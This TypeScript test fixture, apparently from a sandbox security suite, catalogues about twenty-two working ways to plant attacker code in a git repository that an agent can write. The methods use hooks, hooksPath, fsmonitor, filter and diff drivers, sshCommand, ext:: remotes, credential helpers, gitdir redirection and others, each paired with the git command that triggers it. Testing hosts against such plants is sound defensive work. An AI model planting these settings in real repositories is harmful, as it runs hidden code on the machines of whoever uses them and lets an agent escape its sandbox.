import { appendFile, mkdir, rename, rm, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { gitIn, makeProgram, write } from './fixture.ts';

/** Where an attack is planted: a working tree with its `.git`, as an agent can write them. */
export interface Victim {
  root: string;
  /** A folder for programs and other things of the attacker's. */
  lair: string;
  environment: Record<string, string>;
  /** A shell command that leaves a mark: code of the attacker's has been run. */
  command: string;
  /** The same as a program. It passes on what it is given, as a filter would. */
  program: string;
  /** The same as a program that ends at once, where somebody would wait for it to speak a protocol. */
  failing: string;
}

export interface Attack {
  name: string;
  /** It changes what the repository is, so that it would hide others that are planted with it. */
  isAlone?: true;
  plant(victim: Victim): Promise<void>;
  /** What a careless host would do, and what then runs the attacker's code: the attack is real. */
  provoke(victim: Victim): Promise<unknown>;
}

const configure = ({ root }: Victim, text: string): Promise<void> =>
  appendFile(path.join(root, '.git', 'config'), `\n${text}\n`);

const git = (victim: Victim, ...args: string[]): Promise<unknown> =>
  // A program of the attacker's makes many commands fail.
  gitIn(victim.root, victim.environment, ...args).catch((error: unknown) => error);

async function dirty(victim: Victim): Promise<void> {
  await write(victim.root, { 'dirty.txt': `${Math.random()}\n` });
  await git(victim, 'add', '-N', 'dirty.txt');
}

const attributes = (victim: Victim, text: string, file = '.gitattributes'): Promise<void> =>
  appendFile(path.join(victim.root, file), `${text}\n`);

const hookNames = [
  'applypatch-msg',
  'commit-msg',
  'post-checkout',
  'post-commit',
  'post-index-change',
  'post-merge',
  'post-rewrite',
  'pre-auto-gc',
  'pre-commit',
  'pre-merge-commit',
  'pre-push',
  'prepare-commit-msg',
  'reference-transaction',
  'update',
];

export const attacks: readonly Attack[] = [
  {
    name: 'hooks',
    plant: async ({ root, program }) => {
      await mkdir(path.join(root, '.git', 'hooks'), { recursive: true });
      for (const name of hookNames) await symlink(program, path.join(root, '.git', 'hooks', name));
    },
    provoke: (victim) => git(victim, 'commit', '--allow-empty', '-m', 'x'),
  },
  {
    name: 'core.hooksPath',
    isAlone: true,
    plant: async (victim) => {
      await makeProgram(path.join(victim.lair, 'reference-transaction'), `#!/bin/sh\n${victim.command}\n`);
      await makeProgram(path.join(victim.lair, 'post-index-change'), `#!/bin/sh\n${victim.command}\n`);
      await configure(victim, `[core]\n\thooksPath = "${victim.lair}"`);
    },
    provoke: (victim) => git(victim, 'branch', 'x'),
  },
  {
    name: 'core.fsmonitor',
    plant: (victim) => configure(victim, `[core]\n\tfsmonitor = "${victim.program}"`),
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'filter.clean',
    plant: async (victim) => {
      await configure(victim, `[filter "x"]\n\tclean = "${victim.program}"`);
      await attributes(victim, '* filter=x');
    },
    provoke: (victim) => git(victim, 'add', '--all'),
  },
  {
    name: 'filter.smudge',
    plant: async (victim) => {
      await configure(victim, `[filter "x"]\n\tsmudge = "${victim.program}"`);
      await attributes(victim, '* filter=x');
    },
    provoke: async (victim) => {
      await rm(path.join(victim.root, 'b.txt'));
      return git(victim, 'checkout', 'HEAD', '--', 'b.txt');
    },
  },
  {
    name: 'filter.process, by info/attributes',
    plant: async (victim) => {
      await configure(victim, `[filter "x"]\n\tprocess = "${victim.program}"\n\trequired = true`);
      await attributes(victim, '* filter=x', '.git/info/attributes');
    },
    provoke: (victim) => git(victim, 'add', '--all'),
  },
  {
    name: 'diff.external',
    plant: (victim) => configure(victim, `[diff]\n\texternal = "${victim.program}"`),
    provoke: async (victim) => {
      await dirty(victim);
      return git(victim, 'diff');
    },
  },
  {
    name: 'diff.<name>.textconv and command',
    plant: async (victim) => {
      await configure(victim, `[diff "x"]\n\ttextconv = "${victim.program}"`);
      await attributes(victim, '* diff=x');
    },
    provoke: async (victim) => {
      await dirty(victim);
      return git(victim, 'diff');
    },
  },
  {
    name: 'merge.<name>.driver',
    plant: async (victim) => {
      await configure(victim, `[merge "x"]\n\tdriver = "${victim.program} %A"`);
      await attributes(victim, '* merge=x', '.git/info/attributes');
    },
    provoke: async (victim) => {
      await git(victim, 'checkout', '-qb', 'one');
      await write(victim.root, { 'b.txt': 'one\n' });
      await git(victim, 'commit', '-qam', 'one');
      await git(victim, 'checkout', '-qb', 'two', 'HEAD~1');
      await write(victim.root, { 'b.txt': 'two\n' });
      await git(victim, 'commit', '-qam', 'two');
      return git(victim, 'merge', 'one');
    },
  },
  {
    name: 'core.sshCommand',
    plant: (victim) =>
      configure(
        victim,
        `[core]\n\tsshCommand = "${victim.failing}"\n[remote "evil"]\n\turl = ssh://nowhere/x`,
      ),
    provoke: (victim) => git(victim, 'fetch', 'evil'),
  },
  {
    name: 'a remote of ext::',
    isAlone: true,
    plant: (victim) =>
      configure(
        victim,
        `[protocol "ext"]\n\tallow = always\n[remote "evil"]\n\turl = "ext::${victim.failing}"\n\tpromisor = true\n[extensions]\n\tpartialClone = evil\n[core]\n\trepositoryFormatVersion = 1`,
      ),
    provoke: (victim) => git(victim, 'cat-file', '-p', '0123456789012345678901234567890123456789'),
  },
  {
    name: 'credential.helper and core.askPass',
    plant: (victim) =>
      configure(
        victim,
        `[credential]\n\thelper = "!${victim.command};"\n[core]\n\taskPass = "${victim.program}"`,
      ),
    provoke: (victim) =>
      git(
        victim,
        '-c',
        'alias.ask=!printf "protocol=https\\nhost=nowhere\\n\\n" | git credential fill',
        'ask',
      ),
  },
  {
    name: 'gpg.program',
    plant: (victim) =>
      configure(victim, `[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = "${victim.program}"`),
    provoke: (victim) => git(victim, 'commit', '--allow-empty', '-m', 'x'),
  },
  {
    name: 'aliases, pagers and editors',
    plant: (victim) =>
      configure(
        victim,
        `[alias]\n\tx = "!${victim.command}"\n${['add', 'status', 'update-index', 'write-tree', 'read-tree', 'diff-tree'].map((name) => `\t${name} = "!${victim.command}"\n`).join('')}[core]\n\tpager = "${victim.program}"\n\teditor = "${victim.program}"`,
      ),
    provoke: (victim) => git(victim, 'x'),
  },
  {
    name: 'include.path',
    plant: async (victim) => {
      await write(victim.lair, { more: `[core]\n\tfsmonitor = "${victim.program}"\n` });
      await configure(victim, `[include]\n\tpath = "${victim.lair}/more"`);
    },
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'config.worktree',
    isAlone: true,
    plant: async (victim) => {
      await configure(victim, '[extensions]\n\tworktreeConfig = true');
      await write(victim.root, { '.git/config.worktree': `[core]\n\tfsmonitor = "${victim.program}"\n` });
    },
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'a commondir file',
    isAlone: true,
    plant: async (victim) => {
      const evil = path.join(victim.lair, 'common');
      await gitIn(victim.lair, victim.environment, 'clone', '-q', '--bare', victim.root, evil);
      await appendFile(
        path.join(evil, 'config'),
        `[core]\n\tbare = false\n\tfsmonitor = "${victim.program}"\n`,
      );
      await writeFile(path.join(victim.root, '.git', 'commondir'), `${evil}\n`);
    },
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'a nested repository',
    isAlone: true,
    plant: async (victim) => {
      const inner = path.join(victim.root, 'inner');
      await write(inner, { x: '1\n', '.gitattributes': '* filter=x\n' });
      for (const args of [
        ['init', '-q'],
        ['add', '-A'],
        ['commit', '-qm', 'x'],
      ]) {
        await gitIn(inner, victim.environment, ...args);
      }
      await git(victim, 'add', 'inner');
      const settings = `[core]\n\tfsmonitor = "${victim.program}"\n[filter "x"]\n\tclean = "${victim.program}"\n`;
      await appendFile(path.join(inner, '.git', 'config'), settings);
      await write(inner, { x: '2\n' });
    },
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'core.worktree',
    isAlone: true,
    plant: async (victim) => {
      await configure(victim, `[core]\n\tworktree = "${victim.lair}"`);
      await write(victim.lair, { '.gitattributes': '* filter=x\n' });
      await configure(victim, `[filter "x"]\n\tclean = "${victim.program}"`);
    },
    provoke: (victim) => git(victim, 'add', '--all'),
  },
  {
    name: 'a .git file that points elsewhere',
    isAlone: true,
    plant: async (victim) => {
      const evil = path.join(victim.lair, 'evil.git');
      await rename(path.join(victim.root, '.git'), evil);
      await appendFile(path.join(evil, 'config'), `[core]\n\tfsmonitor = "${victim.program}"\n`);
      await writeFile(path.join(victim.root, '.git'), `gitdir: ${evil}\n`);
    },
    provoke: (victim) => git(victim, 'status'),
  },
  {
    name: 'alternates with core.alternateRefsCommand',
    plant: async (victim) => {
      const other = path.join(victim.lair, 'other');
      await gitIn(victim.lair, victim.environment, 'init', '-q', '--bare', other);
      await write(victim.root, { '.git/objects/info/alternates': `${other}/objects\n` });
      await configure(victim, `[core]\n\talternateRefsCommand = "${victim.command}; true"`);
    },
    provoke: (victim) => git(victim, 'fetch', victim.root, 'HEAD'),
  },
  {
    name: 'uploadpack and receivepack programs',
    plant: (victim) =>
      configure(
        victim,
        `[remote "evil"]\n\turl = "${victim.root}"\n\tuploadpack = "${victim.failing}"\n\treceivepack = "${victim.failing}"\n[uploadpack]\n\tpackObjectsHook = "${victim.failing}"`,
      ),
    provoke: (victim) => git(victim, 'fetch', 'evil'),
  },
];
